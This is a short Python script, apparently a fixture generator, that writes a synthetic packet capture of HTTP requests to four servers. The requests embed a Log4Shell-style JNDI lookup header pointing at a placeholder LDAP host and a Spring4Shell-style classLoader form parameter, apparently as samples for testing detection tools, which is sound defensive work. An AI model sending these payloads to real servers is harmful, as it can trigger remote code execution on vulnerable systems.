#!/usr/bin/env python3
import pathlib
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[3] / "support"))
from packets import Capture, TcpTalk

ANSWER = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
FORM = b"class.module.classLoader.x=1&class=2"

capture = Capture()
for number, host in enumerate((10, 20, 30, 40)):
    for port, request in ((41000, b"GET / HTTP/1.1\r\nHost: shop\r\nX-Api-Version: ${jndi:ldap://x/a}\r\n\r\n"),
                          (42000, b"POST /greeting HTTP/1.1\r\nHost: shop\r\nContent-Length: %d\r\n\r\n%s" % (len(FORM), FORM))):
        talk = TcpTalk(capture, "10.1.0.10", port + number, f"10.2.0.{host}", 8080)
        talk.open()
        talk.client(request)
        talk.server(ANSWER)
        talk.close()
capture.write(sys.argv[1])
